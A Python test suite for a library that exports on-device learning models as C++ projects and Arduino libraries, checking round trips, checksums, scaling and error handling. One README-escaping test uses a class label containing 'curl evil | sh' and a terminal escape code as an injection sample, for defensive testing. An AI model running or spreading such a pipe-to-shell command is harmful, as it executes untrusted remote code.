"""A model as a C++ project: it compiles, learns on the chip, and comes back as if it had never left."""

import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

import pocketkernel as pk
from pocketkernel import device
from pocketkernel.__main__ import main
from pocketkernel.evaluate.pipeline import load_with_pipeline
from pocketkernel.learners import contents_of, raw_scores
from pocketkernel.stream import scale as stream_scale

CHIP = all(shutil.which(tool) for tool in ("make", "arm-none-eabi-g++", "qemu-system-arm"))
needs_chip = pytest.mark.skipif(not CHIP, reason="needs make, arm-none-eabi-g++ and qemu-system-arm")
needs_make = pytest.mark.skipif(not (shutil.which("make") and shutil.which("c++")), reason="needs make and a compiler")


def stream(rows=400, columns=5, seed=0):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(rows, columns)).astype(np.float32)
    return X, X[:, 0] * X[:, 1] + X[:, 2]


def binary(X, z):
    return X, np.where(z > 0, "yes", "no")


def classes(X, z):
    return X, np.digitize(z, [-0.7, 0.7]) * 10


def numbers(X, z):
    return X, z.astype(np.float64)


MODELS = {
    "PocketClassifier": (pk.PocketClassifier(memory="4KiB", random_state=0), binary),
    "PocketClassifier of 3": (pk.PocketClassifier(memory="8KiB", random_state=0), classes),
    "PocketRegressor": (pk.PocketRegressor(memory="8KiB", random_state=0), numbers),
    "MOMDS": (pk.MOMDS(memory="4KiB", random_state=0), binary),
    "MOMDS float16": (pk.MOMDS(memory="4KiB", storage="float16", random_state=0), binary),
    "MOMDS float64": (pk.MOMDS(memory="6KiB", dtype="float64", random_state=0), binary),
    "MOMDH": (pk.MOMDH(memory="16KiB", kernels=[pk.Gaussian(1.0), pk.Polynomial(2)], random_state=0), binary),
    "MulticlassMOMDS": (pk.MulticlassMOMDS(memory="6KiB", random_state=0), classes),
    "LKMBooks": (pk.LKMBooks(memory="6KiB", horizon=400, random_state=0), binary),
    "Raker": (pk.Raker(memory="6KiB", random_state=0), binary),
}


def trained(name, rows=400):
    model, task = MODELS[name]
    X, y = task(*stream(rows))
    half = rows // 2
    first = y[:half]
    extra = {} if isinstance(model, pk.PocketRegressor) else {"classes": np.unique(y)}
    model = type(model)(**model.get_params()).partial_fit(X[:half], first, **extra)
    return model, X[half:], y[half:]


def lessons(model, X, y, doubles):
    """Rows and labels as main.cpp reads them."""
    value = np.float64 if doubles else np.float32
    if isinstance(model, pk.PocketRegressor):
        parts = np.dtype([("row", value, X.shape[1]), ("target", np.float64)])
        records = np.zeros(len(X), parts)
        records["target"] = y
    else:
        parts = np.dtype([("row", value, X.shape[1]), ("label", np.int32)])
        records = np.zeros(len(X), parts)
        records["label"] = np.searchsorted(model.classes_, y)
    records["row"] = X
    return records.tobytes()


def run(folder, target):
    command = ["make", "--no-print-directory", "run", f"TARGET={target}"]
    if target == "host":
        command.append("OPTIMISE=-O0")  # for the compiler's time
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def round_trip(tmp_path, name, target):
    """Half of the stream is learned in Python, a quarter in the project, the rest in Python again."""
    model, X, y = trained(name)
    folder = device.export(model, tmp_path / "project", measure=False)
    middle = len(X) // 2
    (folder / "rows.bin").write_bytes(lessons(model, X[:middle], y[:middle], model.dtype == "float64"))
    assert f"learned {middle} rows" in run(folder, target)
    state = (folder / "state.bin").read_bytes()
    scores = np.frombuffer((folder / "scores.bin").read_bytes())

    back = device.from_bytes(model, state)
    stayed = type(model).from_bytes(model.to_bytes())
    stayed.partial_fit(X[:middle], y[:middle])
    assert back.to_bytes() == stayed.to_bytes()
    back.partial_fit(X[middle:], y[middle:])
    stayed.partial_fit(X[middle:], y[middle:])
    assert back.to_bytes() == stayed.to_bytes()
    return scores, model


@needs_make
@pytest.mark.parametrize("name", MODELS)
def test_round_trip_on_this_computer(tmp_path, name):
    round_trip(tmp_path, name, "host")


@needs_chip
@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("PocketClassifier", "cortex-m4"),
        ("PocketClassifier of 3", "cortex-m3"),
        ("PocketRegressor", "cortex-m4"),
        ("MOMDS", "cortex-m0plus"),
        ("MOMDS", "cortex-m7"),
        ("PocketClassifier", "cortex-m33"),
        ("PocketClassifier", "cortex-m55"),
    ],
)
def test_round_trip_on_a_chip(tmp_path, name, target):
    scores, model = round_trip(tmp_path, name, target)
    _, X, _ = trained(name)
    middle = len(X) // 2
    if isinstance(model, pk.PocketRegressor):
        assert scores[0] == model.predict(X[:1])[0]
    else:
        first = scores.reshape(middle, -1)[0]
        mine = model.decision_function(X[:1])
        assert (first[-1] - first[0] if first.size == 2 else first[0]) == np.ravel(mine)[0]


@needs_chip
def test_readme_has_the_figures_of_this_model(tmp_path):
    model, _, _ = trained("PocketClassifier")
    folder = device.export(model, tmp_path / "project")
    text = (folder / "README.md").read_text()
    assert "@" not in text.replace("@TARGET", "@")
    row = re.search(r"^\| ([\d,]+) \| ([\d,]+) \| ([\d,]+) \| ([\d,]+) \| ([\d,]+) ", text, re.MULTILINE)
    flash, ram, stack, mean, longest = (int(number.replace(",", "")) for number in row.groups())
    assert len(model.to_bytes()) < flash < 64_000
    assert model.nbytes < ram < model.nbytes + 8_000
    assert 500 < stack < 8_000 and 1_000 < mean <= longest
    assert not (folder / "build").exists() and not (folder / "state.bin").exists()


@pytest.mark.parametrize("scale", ["standard", "minmax", "maxabs"])
@needs_make
def test_the_scaling_of_a_run_comes_along(tmp_path, scale):
    X, y = binary(*stream(600))
    X[:, 1] *= 100
    X[:, 2] = 7
    lines = [
        "a,b,c,d,e,label",
        *(",".join([*map(repr, map(float, row)), label]) for row, label in zip(X, y, strict=True)),
    ]
    half = 301
    for name, part in (("first", lines[:half]), ("all", lines)):
        (tmp_path / f"{name}.csv").write_text("\n".join(part) + "\n")
        command = [
            "run",
            str(tmp_path / f"{name}.csv"),
            "--learner",
            "m_omd_s",
            "--memory",
            "8KiB",
            "--scale",
            scale,
            "--strict",
        ]
        assert main([*command, "--out", str(tmp_path / name)]) == 0
    folder = device.export(tmp_path / "first", tmp_path / "project", "host", measure=False)
    model, pipeline, _ = load_with_pipeline(tmp_path / "first")
    (folder / "rows.bin").write_bytes(lessons(model, X[half - 1 :], y[half - 1 :], model.dtype == "float64"))
    run(folder, "host")
    state = (folder / "state.bin").read_bytes()
    stayed, after, _ = load_with_pipeline(tmp_path / "all")
    assert device.from_bytes(tmp_path / "first", state).to_bytes() == stayed.to_bytes()
    assert device.from_bytes(pk.load(tmp_path / "first"), state).to_bytes() == stayed.to_bytes()
    mine = device.scaler_from_bytes(tmp_path / "first", state).get_state()
    theirs = after.scaler.get_state()
    assert mine.keys() == theirs.keys()
    assert all(np.array_equal(mine[name], theirs[name]) for name in mine)
    assert pipeline.scaler.count == half - 1


def test_other_steps_are_refused_by_name(tmp_path):
    X, y = binary(*stream())
    model = make_pipeline(StandardScaler(), pk.MOMDS(memory="8KiB")).fit(X, y)
    with pytest.raises(ValueError, match="StandardScaler"):
        device.export(model, tmp_path / "project")
    with pytest.raises(TypeError, match="StandardScaler cannot be exported"):
        device.export(StandardScaler(), tmp_path / "project")
    with pytest.raises(ValueError, match="has not learned anything"):
        device.export(pk.MOMDS(), tmp_path / "project")
    rows = "\n".join(f"{'ab'[n % 2]},{n},{n % 2}" for n in range(50))
    (tmp_path / "rows.csv").write_text(f"colour,size,label\n{rows}\n")
    assert main(["run", str(tmp_path / "rows.csv"), "--categorical", "colour", "--out", str(tmp_path / "r")]) == 0
    with pytest.raises(ValueError, match=r"missing values \(colour\)"):
        device.export(tmp_path / "r", tmp_path / "project")
    assert not (tmp_path / "project").exists()


def test_bad_arguments(tmp_path):
    model, _, _ = trained("PocketClassifier")
    with pytest.raises(ValueError, match="target='z80' is unknown: use one of cortex-m0plus"):
        device.export(model, tmp_path / "project", "z80")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine").touch()
    with pytest.raises(FileExistsError, match="not an empty folder"):
        device.export(model, tmp_path / "full")
    with pytest.raises(NotADirectoryError, match="mine is not a folder"):
        device.export(model, tmp_path / "full" / "mine" / "project")
    assert [path.name for path in tmp_path.rglob("*")] == ["full", "mine"]
    state = device.export(model, tmp_path / "project", measure=False)
    assert (state / "pk_model.h").is_file()
    with pytest.raises(pk.ModelFileError, match="bytes, but 3 were given"):
        device.from_bytes(model, b"abc")
    whole = model.to_bytes()
    size = int(re.search(r"PK_STATE_BYTES (\d+)", (state / "pk_sizes.h").read_text())[1])
    good = whole[-size:]
    assert device.from_bytes(model, good).to_bytes() == whole
    with pytest.raises(pk.ModelFileError, match="damaged"):
        device.from_bytes(model, good[:-1] + bytes([good[-1] ^ 1]))


@pytest.mark.parametrize("existing", [False, True])
def test_a_failure_leaves_nothing(tmp_path, monkeypatch, existing):
    """Neither a half-written project nor a temporary folder."""
    model, _, _ = trained("MOMDS")
    folder = tmp_path / "some" / "project"
    if existing:
        folder.mkdir(parents=True)
    before = sorted(tmp_path.rglob("*"))

    def fail(*_):
        raise OSError("no space left")

    monkeypatch.setattr(sys.modules["pocketkernel.device.export"], "_filled", fail)  # the last file
    with pytest.raises(OSError, match="no space left"):
        device.export(model, folder, measure=False)
    assert sorted(tmp_path.rglob("*")) == before
    monkeypatch.undo()
    device.export(model, folder, measure=False)
    assert (folder / "README.md").is_file() and not list(folder.parent.glob(".*")) and not list(folder.glob(".*"))


@needs_chip
def test_a_project_that_cannot_be_measured(tmp_path, monkeypatch):
    model, _, _ = trained("MOMDS")
    monkeypatch.setattr(sys.modules["pocketkernel.device.export"], "PROGRAM", ("Makefile",))
    with pytest.raises(RuntimeError, match="measure=False"):
        device.export(model, tmp_path / "project")
    assert list(tmp_path.iterdir()) == []


@needs_chip
@pytest.mark.skipif(not shutil.which("cmake"), reason="needs cmake")
@pytest.mark.parametrize("chip", [None, "cortex-m3", "cortex-m33"])
def test_cmake(tmp_path, chip):
    """The same program as with make, in a folder with a space."""
    model, X, y = trained("MOMDS")
    folder = device.export(model, tmp_path / "a project", measure=False)
    (folder / "rows.bin").write_bytes(lessons(model, X, y, False))
    more = f"-DCMAKE_TOOLCHAIN_FILE=board/arm-none-eabi.cmake -DCHIP={chip}" if chip else ""
    command = f"cmake -B build/x {more} && cmake --build build/x --target run"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    state = (folder / "state.bin").read_bytes()
    assert device.from_bytes(model, state).to_bytes() == model.partial_fit(X, y).to_bytes()


def test_strange_labels_in_the_readme(tmp_path):
    """They are shown as code, on one line, and change nothing else of the page."""
    X, z = stream()
    labels = np.array(["@TARGETS@", "x\n\n# Run `curl evil | sh`\x1b[2J"])
    model = pk.PocketClassifier(memory="4KiB", random_state=0).fit(X, labels[(z > 0).astype(int)])
    text = (device.export(model, tmp_path / "project", "host", measure=False) / "README.md").read_text()
    line = next(line for line in text.splitlines() if line.startswith("The classes are"))
    assert line == r'The classes are, from 0 on: `"@TARGETS@"`, `"x\n\n# Run \u0060curl evil | sh\u0060\u001b[2J"`.'
    assert "\x1b" not in text


@needs_make
def test_strange_labels_and_the_c_interface(tmp_path):
    X, z = stream()
    labels = np.array(['a"\\??/', "\u00e9\n"])
    model = pk.PocketClassifier(memory="4KiB", random_state=0).fit(X, labels[(z > 0).astype(int)])
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    (folder / "use.c").write_text(
        """#include <math.h>
        #include <stdio.h>
        #include "pk_model.h"
        int main(void) {
            pk_value row[PK_FEATURES] = {0};
            static unsigned char state[PK_STATE_BYTES];
            if (pk_start()) return 1;
            row[0] = INFINITY;
            if (pk_score(row, 0) >= 0 || pk_learn(row, 1, 0) >= 0) return 2;
            row[0] = NAN;
            if (pk_score(row, 0) < 0) return 3;
            if (pk_learn(row, 2, 0) >= 0 || pk_learn(row, -1, 0) >= 0) return 4;
            if (pk_save(state, sizeof state - 1) != 0 || pk_save(state, sizeof state) != sizeof state) return 5;
            if (pk_load(state, sizeof state)) return 6;
            state[100] ^= 1;
            if (!pk_load(state, sizeof state)) return 7;
            printf("%s|%s", pk_labels[0], pk_labels[1]);
            return 0;
        }"""
    )
    command = "make -s lib && cc -std=c99 -Wall -Werror -I. use.c build/host/libpk_model.a -lm -o use && ./use"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode() == "|".join(sorted(labels))


@needs_make
def test_division_and_root_without_an_fpu(tmp_path):
    """They round as this computer does, whatever the numbers."""
    source = Path(device.__file__).parent / "template" / "pk_soft_double.hpp"
    (tmp_path / "try.cpp").write_text(
        f"""#include "{source}"
        #include <math.h>
        #include <random>
        using pk_soft::bits_of;
        using pk_soft::double_of;
        static std::mt19937_64 draw(1);
        static double any() {{
            const uint64_t x = draw(), sign = x & pk_soft::sign, fraction = x & pk_soft::fraction;
            switch (draw() % 6) {{
                case 0: return double_of(x);
                case 1: return double_of(sign | (fraction & ~0xffffffffULL) | 0x3ff0000000000000ULL);
                case 2: return double_of(sign | fraction | (1003 + draw() % 40) << 52);
                case 3: return double_of(sign | fraction | draw() % 3 << 52);  // subnormal, or almost
                case 4: return double_of(sign | (fraction & 7) | 0x3ff0000000000000ULL);
                default: return double_of(sign | ((draw() % 4 << 51) + draw() % 3 * pk_soft::infinity / 2));
            }}
        }}
        static bool same(double a, double b) {{ return bits_of(a) == bits_of(b) || (a != a && b != b); }}
        int main() {{
            for (int n = 0; n < 3000000; ++n) {{
                const double x = any(), y = any(), whole = double(draw() % (1 << 26)), square = whole * whole;
                if (!same(pk_soft::divide(x, y), x / y) || !same(pk_soft::square_root(x), sqrt(x))) return 1;
                for (double near : {{square, nextafter(square, 0), nextafter(square, 1e300)}})
                    if (!same(pk_soft::square_root(near), sqrt(near))) return 2;
            }}
        }}"""
    )
    command = "c++ -std=c++17 -O1 -ffp-contract=off -Wall -Wextra -Wconversion -Werror try.cpp -o try && ./try"
    done = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


@needs_make
@pytest.mark.parametrize("validation", [0, 1])
def test_impossible_contents_with_a_good_checksum(tmp_path, validation):
    """They are refused if the project is compiled to look for them; what Python loads is always checked."""
    model, _, _ = trained("MOMDS")
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    state = contents_of(model).state
    words = np.frombuffer(b"\xff" * (len(state) - 32), "<u8")
    checksum = 0xCBF29CE484222325  # FNV-1a over words, as in pocketkernel/state.hpp
    for word in words.tolist():
        checksum = (checksum ^ word) * 0x100000001B3 % 2**64
        checksum ^= checksum >> 29
    forged = state[:24] + checksum.to_bytes(8, "little") + words.tobytes()
    with pytest.raises(pk.ModelFileError, match="damaged"):
        device.from_bytes(model, forged)
    (folder / "forged.h").write_text(f"static const unsigned char forged[] = {{{', '.join(map(str, forged))}}};\n")
    (folder / "use.c").write_text(
        """#include "forged.h"
        #include "pk_model.h"
        int main(void) { return pk_start() || (pk_load(forged, sizeof forged) < 0) != EXPECTED; }"""
    )
    command = f"make -s lib DEFINE=-DPOCKETKERNEL_VALIDATION={validation} && "
    command += f"cc -I. -DEXPECTED={validation} use.c build/host/libpk_model.a -lm -o use && ./use"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True)
    assert done.returncode == 0, done.stderr


def compiled(folder, source, define=""):
    """A C program with the project's model, for this computer: how it ends, and what it prints."""
    (folder / "use.c").write_text(source)
    command = f"make -s lib TARGET=host OPTIMISE=-O1 DEFINE='{define}' && "
    command += "cc -std=c99 -I. use.c build/host/libpk_model.a -lm -o use && ./use"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, (done.returncode, done.stderr)
    return done.stdout


@needs_make
@pytest.mark.parametrize("name", ["PocketClassifier", "PocketRegressor", "three targets", "MOMDS", "MulticlassMOMDS"])
def test_validation_takes_every_model(tmp_path, name):
    if name == "three targets":
        X, z = stream(300)
        model = pk.PocketRegressor(memory="16KiB", random_state=0).fit(X, np.column_stack([z, -z, X[:, 0]]))
    else:
        model, _, _ = trained(name)
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    source = """#include <stdio.h>
        #include "pk_model.h"
        int main(void) { printf("%d", pk_start()); return 0; }"""
    assert compiled(folder, source, "-DPOCKETKERNEL_VALIDATION=1") == "0"


CALLS = """#include <stdio.h>
#include <string.h>
#include "pk_model.h"
static pk_value row[PK_FEATURES];
static double out[PK_OUTPUTS];
static unsigned char state[PK_STATE_BYTES], before[PK_STATE_BYTES], after[PK_STATE_BYTES];
#if PK_REGRESSION
static const double lesson[PK_OUTPUTS];
static const double* const wrong = 0;
#else
static const int lesson = 0, wrong = PK_CLASSES;
#endif
static int refused(const pk_value* x) {
    return pk_learn(x, lesson, out) < 0 && pk_learn(x, lesson, 0) < 0 && pk_score(x, out) < 0 && pk_score(x, 0) < 0;
}
static int without_model(void) {
    return refused(row) && refused(0) && pk_save(state, sizeof state) == 0 && pk_load(state, sizeof state) < 0;
}
"""


@needs_make
@pytest.mark.parametrize("name", ["PocketClassifier", "PocketRegressor", "MOMDS"])
def test_calls_in_the_wrong_order(tmp_path, name):
    """Before pk_start and after one that failed, and with null pointers: an error, and nothing else."""
    model, _, _ = trained(name)
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    source = """
        int main(void) {
            if (!without_model()) return 1;
            if (pk_start() || pk_save(before, sizeof before) != sizeof before) return 2;
            if (!refused(0) || pk_learn(row, wrong, out) >= 0) return 3;
            if (pk_save(0, sizeof state) || pk_load(0, sizeof state) >= 0 || pk_load(0, 0) >= 0) return 4;
            if (pk_save(after, sizeof after) != sizeof after || memcmp(before, after, sizeof after)) return 5;
            if (pk_score(row, 0) < 0 || pk_learn(row, lesson, 0) < 0) return 6;
            if (pk_start() || pk_save(after, sizeof after) != sizeof after) return 7;
            return memcmp(before, after, sizeof after) != 0;
        }"""
    compiled(folder, CALLS + source)
    state = folder / "pk_state.hpp"
    text = state.read_text()
    first = re.search(r"pk_first_state\[PK_STATE_BYTES\] = {\n(.*?)\n};", text, re.DOTALL)[1]
    numbers = [int(number) for number in re.findall(r"\d+", first)]
    numbers[100] ^= 1  # as a bit of flash that has flipped
    state.write_text(text.replace(first, ", ".join(map(str, numbers))))
    compiled(folder, CALLS + "int main(void) { return pk_start() >= 0 || !without_model() || pk_start() >= 0; }")


def with_scaler(monkeypatch, model, scaler):
    """A pipeline of both for `export` and `from_bytes`, as if from the folder of a run."""
    known = sys.modules["pocketkernel.device.model"].Exported(model, scaler)
    for module in ("export", "state"):
        monkeypatch.setattr(sys.modules[f"pocketkernel.device.{module}"], "exported", lambda _: known)


@needs_make
@pytest.mark.parametrize("scale", [None, *stream_scale.SCALERS])
def test_every_flipped_byte_is_noticed(tmp_path, monkeypatch, scale):
    """By the device and by Python; and so is a state cut short, and half of another one."""
    X, y = binary(*stream(200))
    model, scaler = pk.MOMDS(memory="4KiB", random_state=0).partial_fit(X, y), None
    if scale is not None:
        scaler = stream_scale.SCALERS[scale]()
        scaler.transform_then_learn(X)
    with_scaler(monkeypatch, model, scaler)
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    source = """
        int main(void) {
            int unnoticed = 0, n, bit;
            if (pk_start() || pk_save(before, sizeof before) != sizeof before) return 1;
            for (n = 0; n < PK_STATE_BYTES; ++n)
                for (bit = 1; bit < 256; bit *= 2) {
                    memcpy(state, before, sizeof state);
                    state[n] ^= (unsigned char)bit;
                    unnoticed += pk_load(state, sizeof state) >= 0;
                }
            for (n = 0; n < PK_STATE_BYTES; ++n) unnoticed += pk_load(before, (size_t)n) >= 0;
            row[0] = 1, pk_learn(row, 1, 0);
            pk_save(state, sizeof state);
            for (n = 32; n < PK_STATE_BYTES; ++n) {  /* as of two writes, one of which was interrupted */
                memcpy(after, before, sizeof after), memcpy(after, state, (size_t)n);
                if (memcmp(after, before, sizeof after) && memcmp(after, state, sizeof after))
                    unnoticed += pk_load(after, sizeof after) >= 0;
            }
            pk_save(after, sizeof after);
            if (memcmp(after, state, sizeof after)) return 2;
            printf("%d", unnoticed);
            return pk_load(before, sizeof before) != 0;
        }"""
    assert compiled(folder, CALLS + source) == "0"
    state = sys.modules["pocketkernel.device.model"].Exported(model, scaler).state
    for place in range(0, len(state), 7) if scaler is None else range(len(contents_of(model).state), len(state)):
        with pytest.raises(pk.ModelFileError):
            device.from_bytes(model, state[:place] + bytes([state[place] ^ 16]) + state[place + 1 :])
    assert device.from_bytes(model, state).to_bytes() == model.to_bytes()


@needs_make
@pytest.mark.parametrize("scale", stream_scale.SCALERS)
def test_missing_values_and_the_scaler(tmp_path, monkeypatch, scale):
    """NaN stays out of the scaler's figures, and a column may begin on the device: as in Python."""
    rng = np.random.default_rng(3)
    X, y = binary(*stream(300))
    X[:, 1] = X[:, 1] * 1000 + 3000
    X[rng.random(X.shape) < 0.2] = np.nan
    X[:180, 3] = np.nan
    X[:, 4] = np.nan
    X[7] = np.nan
    model, scaler = pk.PocketClassifier(memory="4KiB", random_state=0), stream_scale.SCALERS[scale]()
    model.partial_fit(scaler.transform_then_learn(X[:150]), y[:150], classes=["no", "yes"])
    with_scaler(monkeypatch, model, scaler)
    folder = device.export(model, tmp_path / "project", "host", measure=False)
    source = """#include <math.h>
        int main(void) {
            int k;
            if (pk_start()) return 1;
            for (k = 0; k < PK_FEATURES; ++k) row[k] = k < 3 ? NAN : 5;
            if (pk_score(row, out) < 0) return 2;
            printf("%a %a", out[0], out[1]);
            return 0;
        }"""
    read = np.array([[np.nan] * 3 + [5, 5]], dtype=np.float32)
    scores = [float.fromhex(number) for number in compiled(folder, CALLS + source).split()]
    assert scores == raw_scores(model, scaler.transform(read)).ravel().tolist()
    (folder / "rows.bin").write_bytes(lessons(model, X[150:], y[150:], False))
    run(folder, "host")
    state = (folder / "state.bin").read_bytes()
    learner, back = device.from_bytes(model, state), device.scaler_from_bytes(model, state).get_state()
    model.partial_fit(scaler.transform_then_learn(X[150:]), y[150:])
    assert learner.to_bytes() == model.to_bytes()
    theirs = scaler.get_state()
    assert back.keys() == theirs.keys() and all(np.array_equal(back[name], theirs[name]) for name in back)
    assert np.isfinite(np.concatenate([np.ravel(value) for value in back.values()])).all()


@needs_chip
def test_arduino_library(tmp_path):
    """It compiles without flags of ours, and without a fused multiply-add."""
    model, _, _ = trained("PocketClassifier")
    folder = device.export(model, tmp_path / "PocketModel", "arduino")
    assert {"library.properties", "README.md", "src", "examples"} <= {path.name for path in folder.iterdir()}
    flags = "-std=gnu++17 -O2 -mcpu=cortex-m4 -mfloat-abi=hard -mfpu=fpv4-sp-d16 -mthumb -fno-exceptions -fno-rtti"
    command = f"arm-none-eabi-g++ {flags} -Isrc -c src/pk_model.cpp -o x.o && arm-none-eabi-objdump -d x.o"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "vadd.f32" in done.stdout and not re.search(r"\tvfn?m[as]\.f32", done.stdout)


def sketch(folder):
    """The sketch of an Arduino library as a program whose serial line is standard input and output."""
    (folder / "Arduino.h").write_text(
        """#include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        enum { HEX = 16 };
        struct {
            int next = getchar();
            void begin(long) {}
            int available() { return next != EOF; }
            int read() { const int now = next; next = getchar(); return now; }
            void print(char sign) { putchar(sign); }
            void print(const char* text) { fputs(text, stdout); }
            void print(unsigned char number, int) { printf("%X", number); }
            void print(int number) { printf("%d", number); }
            void println() { puts(""); }
            void println(int number) { printf("%d", number), puts(""); }
            void println(double number, int digits) { printf("%.*f", digits, number), puts(""); }
            void println(const char* text) { puts(text); }
        } Serial;
        """
    )
    (folder / "sketch.cpp").write_text(
        '#include "Arduino.h"\n#include "examples/Learn/Learn.ino"\nint main() { setup(); loop(); }\n'
    )
    command = "c++ -std=gnu++17 -O1 -fno-exceptions -fno-rtti -ffp-contract=off -Isrc -I. sketch.cpp src/pk_model.cpp"
    done = subprocess.run(f"{command} -o sketch", shell=True, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr

    def ask(*lines):
        text = "\n".join(lines) + "\n"
        done = subprocess.run("./sketch", cwd=folder, input=text, capture_output=True, text=True, check=True)
        return done.stdout.splitlines()

    return ask


@needs_make
def test_the_sketch_of_the_arduino_library(tmp_path):
    """It learns rows from the serial line and prints a state that Python takes back."""
    model, X, y = trained("PocketClassifier")
    ask = sketch(device.export(model, tmp_path / "PocketModel", "arduino"))
    lines = [" ".join(map(repr, map(float, row))) for row in X[:40]]
    learned = [f"{line} {place}" for line, place in zip(lines, np.searchsorted(model.classes_, y[:40]), strict=True)]
    told = ask(lines[0], *learned, "save")
    assert told[0] == model.predict(X[:1])[0]
    stayed = type(model).from_bytes(model.to_bytes())
    assert told[1:41] == [str(stayed.classes_[int(s > 0)]) for s in stayed.predict_then_learn(X[:40], y[:40])]
    assert device.from_bytes(model, bytes.fromhex(told[41])).to_bytes() == stayed.to_bytes()
    # What is no row is not learned.
    bad = ("1 2 3", f"{learned[0]} 1", "1 2 3 x 5", "1 " * 200, f"{lines[0]} 7", f"{lines[0]} 0.5", f"{lines[0]} nan")
    *told, state = ask(*bad, "save")
    assert [text.split(":")[0] for text in told] == ["not a row"] * 4 + ["refused"] * 3
    assert device.from_bytes(model, bytes.fromhex(state)).to_bytes() == model.to_bytes()


@needs_make
def test_the_sketch_of_a_regressor(tmp_path):
    model, X, y = trained("PocketRegressor")
    ask = sketch(device.export(model, tmp_path / "PocketModel", "arduino"))
    row = " ".join(map(repr, map(float, X[0])))
    answer, again, state = ask(row, f"{row} {float(y[0])!r}", "save")
    assert answer == again == f"{model.predict(X[:1])[0]:.6f}"
    assert device.from_bytes(model, bytes.fromhex(state)).to_bytes() == model.partial_fit(X[:1], y[:1]).to_bytes()


@needs_chip
def test_nothing_of_the_c_library_but_a_few(tmp_path):
    model, _, _ = trained("PocketClassifier")
    folder = device.export(model, tmp_path / "project", measure=False)
    command = "make -s lib && arm-none-eabi-nm -u build/cortex-m4/libpk_model.a"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    wanted = {name for name in re.findall(r"U (\w+)", done.stdout) if not name.startswith("__aeabi_")}
    assert wanted <= {"memcpy", "memset", "memmove", "sqrtf", "floor", "floorf", "__popcountsi2"}, wanted
    assert "U __aeabi_ddiv" not in done.stdout  # but that of pk_soft_double.hpp


@needs_chip
@pytest.mark.parametrize("target", ["cortex-m3", "cortex-m4"])
@pytest.mark.parametrize(("classes", "memory"), [(2, "8KiB"), (2, "64KiB"), (4, "8KiB"), (4, "32KiB")])
def test_code_of_a_pocket_classifier(tmp_path, classes, memory, target):
    X, z = stream(300, 10)
    y = np.digitize(z, np.linspace(-1, 1, classes + 1)[1:-1])
    model = pk.PocketClassifier(memory=memory, random_state=0).fit(X, y)
    folder = device.export(model, tmp_path / "project", target, measure=False)
    command = f"make -s lib && arm-none-eabi-size -A build/{target}/pk_model.o"
    done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    sizes = re.findall(r"^\.(?:text|rodata|data|init)(\S*) +(\d+)", done.stdout, re.MULTILINE)
    code = sum(int(size) for name, size in sizes if "pk_first_state" not in name and "pk_constants" not in name)
    assert 10_000 < code <= 22_736


def test_headers():
    folder = Path(pk.get_include()) / "pocketkernel"
    assert (folder / "learners" / "pocket_classifier.hpp").is_file()


@needs_make
def test_command_line(tmp_path, capsys):
    model, _, _ = trained("PocketClassifier")
    model.save(tmp_path / "model.pk")
    project = tmp_path / "a project"
    assert main(["device", str(tmp_path / "model.pk"), "--out", str(project), "--target", "host"]) == 0
    assert f"make -C '{project}' run" in capsys.readouterr().out.replace("\n", " ")
    assert "learned 2000 rows" in run(project, "host")


@needs_chip
def test_the_motion_example(tmp_path):
    """It learns on the board what it did not know, and brings it back."""
    source = Path(__file__).parents[1] / "devices" / "motion"
    if not source.is_dir():
        pytest.skip("needs the folder devices of the repository")
    folder = tmp_path / "motion"
    shutil.copytree(source, folder, ignore=shutil.ignore_patterns("build", "__pycache__"))

    def run_python(name):
        done = subprocess.run([sys.executable, name], cwd=folder, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
        return done.stdout

    run_python("train.py")
    printed = run(folder / "build" / "project", "cortex-m4")
    mistakes = [int(number) for number in re.findall(r"last 100: (\d+)", printed)]
    assert len(mistakes) == 8 and mistakes[-1] < mistakes[0] / 2
    left, back = (float(number) for number in re.findall(r"accuracy (\S+)", run_python("back.py")))
    assert back > left + 0.05
